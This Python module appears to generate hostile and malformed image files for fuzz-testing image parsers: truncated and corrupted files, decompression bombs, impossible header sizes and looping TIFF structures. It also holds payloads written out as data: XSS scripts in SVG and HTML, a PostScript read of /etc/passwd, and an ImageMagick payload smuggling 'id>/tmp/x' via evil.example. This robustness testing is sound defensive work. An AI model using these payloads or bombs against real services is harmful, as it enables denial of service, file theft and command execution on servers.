"""Pictures that are cut, lie, swell, loop or are no pictures at all."""

from __future__ import annotations

import io
import random
import struct
import zlib

import numpy as np
from PIL import Image

FORMATS = ("PNG", "JPEG", "GIF", "WEBP", "TIFF", "BMP", "AVIF")
SUFFIX = {"PNG": "png", "JPEG": "jpg", "GIF": "gif", "WEBP": "webp", "TIFF": "tif", "BMP": "bmp", "AVIF": "avif"}


def good(kind: str, side: int = 48, **options: object) -> bytes:
    """A picture as it should be."""
    across = np.linspace(0, 255, side)
    planes = np.add.outer(across, across) / 2, np.tile(across, (side, 1)), np.full((side, side), 90)
    values = np.stack(planes, axis=-1)
    data = io.BytesIO()
    Image.fromarray(values.astype(np.uint8)).save(data, kind, **options)
    return data.getvalue()


def chunk(name: bytes, data: bytes, crc: int | None = None) -> bytes:
    """A chunk of a PNG."""
    told = zlib.crc32(name + data) if crc is None else crc
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", told)


def png(width: int, height: int, *chunks: bytes, depth: int = 8, colour: int = 2) -> bytes:
    """A PNG that announces this size and holds these chunks."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks) + chunk(b"IEND", b"")


def hostile() -> dict[str, bytes]:
    """{file name: content}, about 130 of them; none is a good picture, though some can be shown."""
    made: dict[str, bytes] = {}
    for kind in FORMATS:
        whole, end = good(kind), SUFFIX[kind]
        for share in (0.02, 0.1, 0.5, 0.9, 0.99):
            made[f"cut {share} {kind}.{end}"] = whole[: int(len(whole) * share)]
        made[f"twice {kind}.{end}"] = whole + whole
        made[f"zeros {kind}.{end}"] = whole[:24] + bytes(len(whole) - 24)
        made[f"ones {kind}.{end}"] = whole[:24] + b"\xff" * (len(whole) - 24)
        made[f"tail {kind}.{end}"] = whole + b"<script>alert(1)</script>" * 50
        made[f"wrong name {kind}.{SUFFIX[FORMATS[(FORMATS.index(kind) + 1) % len(FORMATS)]]}"] = whole
    return made | _no_pictures() | _swelling() | _headers() | _lies()


def _no_pictures() -> dict[str, bytes]:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
    return {
        "empty.png": b"",
        "one byte.png": b"\x89",
        "svg.png": svg,
        "svg.svg": svg,
        "page.jpg": b"<!doctype html><script>alert(1)</script>",
        "pdf.png": b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj",
        "postscript.jpg": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file",
        "magick.png": b'push graphic-context\nfill "url(https://evil.example/\\";id>/tmp/x\\")"\npop graphic-context',
        "program.png": b"\x7fELF" + bytes(60),
        "zip.png": b"PK\x03\x04" + bytes(60),
        "gifar.gif": good("GIF") + b"PK\x05\x06" + bytes(18),
        "fits.png": b"SIMPLE  =                    T" + b" " * 2850,
        "psd.png": b"8BPS\x00\x01" + bytes(60),
        "icns.png": b"icns" + struct.pack(">I", 16) + b"ic07" + struct.pack(">I", 8),
        "dds.png": b"DDS " + bytes(124),
        "jpeg2000.jpg": b"\x00\x00\x00\x0cjP  \r\n\x87\n" + bytes(60),
        "ppm.png": b"P6\n9999999999 9999999999\n255\n",
        "xbm.png": b"#define x_width 9999999\n#define x_height 9999999\nstatic char x_bits[] = {",
        "heic.jpg": b"\x00\x00\x00\x18ftypheic" + bytes(60),
        "noise.png": random.Random(1).randbytes(5000),
        "text.jpg": b"only words\n" * 40,
    }


def _swelling() -> dict[str, bytes]:
    """Small files that would grow: in pixels, in text, in colour profiles, in frames."""
    flat = zlib.compress(bytes(300 * 1024 * 1024), 9)
    large = zlib.compress(bytes(30 * 1024 * 1024), 9)
    frames = [Image.new("P", (8, 8), number % 250) for number in range(2000)]
    animated = io.BytesIO()
    frames[0].save(animated, "GIF", save_all=True, append_images=frames[1:])
    scans = good("JPEG", progressive=True)
    place = scans.rindex(b"\xff\xda")
    scan = scans[place:-2]
    return {
        "idat bomb.png": png(16, 16, chunk(b"IDAT", flat)),
        "text bomb.png": png(16, 16, chunk(b"zTXt", b"a\0\0" + flat), chunk(b"IDAT", zlib.compress(bytes(16 * 49)))),
        "profile bomb.png": png(16, 16, chunk(b"iCCP", b"a\0\0" + large), chunk(b"IDAT", zlib.compress(bytes(784)))),
        "many chunks.png": png(16, 16, *[chunk(b"tEXt", b"k\0v")] * 40_000, chunk(b"IDAT", zlib.compress(bytes(784)))),
        "many frames.gif": animated.getvalue(),
        "many scans.jpg": scans[:-2] + scan * 3000 + b"\xff\xd9",
        "many comments.jpg": b"\xff\xd8" + (b"\xff\xfe\xff\xff" + bytes(65533)) * 60 + good("JPEG")[2:],
        "deflated.tif": good("TIFF", side=3000, compression="tiff_adobe_deflate"),
    }


def _headers() -> dict[str, bytes]:
    """Headers that announce what no memory holds, or nothing."""
    made = {}
    for width, height in ((0, 0), (0, 9), (2**31 - 1, 2**31 - 1), (65_535, 65_535), (20_000, 20_000), (2**31 - 1, 1)):
        made[f"size {width} {height}.png"] = png(width, height, chunk(b"IDAT", zlib.compress(b"\0")))
    for width, height in ((0, 0), (65_535, 65_535), (1, 65_535)):
        screen = struct.pack("<HH", width, height)
        start = b"GIF89a" + screen + b"\x80\0\0" + bytes(6)
        made[f"size {width} {height}.gif"] = start + b"," + bytes(4) + screen + b"\0"
        jpeg = bytearray(good("JPEG"))
        place = jpeg.index(b"\xff\xc0") + 5
        jpeg[place : place + 4] = struct.pack(">HH", height, width)
        made[f"size {width} {height}.jpg"] = bytes(jpeg)
        bmp = bytearray(good("BMP"))
        bmp[18:26] = struct.pack("<ii", width * 30_000, -height * 30_000)
        made[f"size {width} {height}.bmp"] = bytes(bmp)
    webp = bytearray(good("WEBP", lossless=True))
    webp[21:25] = b"\xff\xff\xff\x0f"
    made["size 16384.webp"] = bytes(webp)
    return made


def _lies() -> dict[str, bytes]:
    """Files whose parts contradict one another."""
    body = chunk(b"IDAT", zlib.compress(bytes(16 * 49)))
    ifd = struct.pack("<H", 1) + struct.pack("<HHII", 256, 4, 1, 16) + struct.pack("<I", 8)
    strips = b"".join(
        struct.pack("<HHII", tag, 4, count, value)
        for tag, count, value in ((256, 1, 9), (257, 1, 9), (273, 2**31, 8), (279, 2**31, 8), (278, 1, 1))
    )
    webp = bytearray(good("WEBP"))
    webp[4:8] = b"\xff\xff\xff\xff"
    avif = bytearray(good("AVIF"))
    avif[0:4] = b"\0\0\0\0"
    exif = Image.Exif()
    exif[0x0112] = 99
    exif[0x010E] = "x" * 60_000
    return {
        "wrong sum.png": png(16, 16, chunk(b"IDAT", zlib.compress(bytes(784)), crc=7)),
        "no pixels.png": png(16, 16),
        "no end.png": png(16, 16, body)[:-12],
        "pixels of another size.png": png(4000, 4000, body),
        "depth 3.png": png(16, 16, body, depth=3),
        "colour 9.png": png(16, 16, body, colour=9),
        "no palette.png": png(16, 16, body, colour=3),
        "negative chunk.png": png(16, 16)[:33] + struct.pack(">I", 2**32 - 1) + b"IDAT",
        "loop.tif": b"II*\0" + struct.pack("<I", 8) + ifd,
        "strips.tif": b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", 5) + strips + bytes(4),
        "away.tif": b"II*\0" + struct.pack("<I", 2**32 - 1),
        "big.tif": b"MM\0*" + struct.pack(">I", 8) + struct.pack(">H", 65_535),
        "long.webp": bytes(webp),
        "box.avif": bytes(avif),
        "brands.avif": b"\0\0\0\x20ftypavif\0\0\0\0avifmif1" + bytes(200),
        "orientation.jpg": good("JPEG", exif=exif.tobytes()),
        "exif.jpg": good("JPEG", exif=b"Exif\0\0II*\0" + b"\xff" * 500),
        "profile.jpg": good("JPEG", icc_profile=b"\0\0\2\x0clcms" + bytes(3000)),
        "rle.bmp": good("BMP")[:30] + struct.pack("<I", 1) + good("BMP")[34:],
        "codes.gif": good("GIF")[:-40] + b"\xff" * 300 + b"\0;",
        "frame outside.gif": good("GIF").replace(b",\0\0\0\0", b",\xff\xff\xff\xff", 1),
        "cmyk.jpg": _cmyk(),
    }


def _cmyk() -> bytes:
    data = io.BytesIO()
    Image.new("CMYK", (16, 16), (9, 200, 30, 4)).save(data, "JPEG", icc_profile=b"nothing of a profile" * 9)
    return data.getvalue()


def mutations(count: int, seed: int = 0) -> list[bytes]:
    """Good and hostile small pictures with some bytes changed, doubled, moved or taken out."""
    draw = random.Random(seed)
    seeds = [good(kind, 24) for kind in FORMATS] + [data for data in hostile().values() if 0 < len(data) < 20_000]
    return [mutated(draw.choice(seeds), draw) for _ in range(count)]


def mutated(content: bytes, draw: random.Random) -> bytes:
    """Some bytes of it changed, doubled, moved or taken out."""
    data = bytearray(content)
    for _ in range(draw.choice((1, 1, 2, 4, 16))):
        at = draw.randrange(len(data))
        act = draw.randrange(4)
        if act == 0:
            data[at] = draw.choice((0, 1, 127, 128, 255, draw.randrange(256)))
        elif act == 1:
            data[at : at + 4] = draw.choice((bytes(4), b"\xff" * 4, b"\x7f\xff\xff\xff", draw.randbytes(4)))
        elif act == 2:
            del data[at : at + draw.randrange(1, 16)]
        else:
            data[at:at] = data[at : at + draw.randrange(1, 64)]
        data = data or bytearray(b"\0")
    return bytes(data)
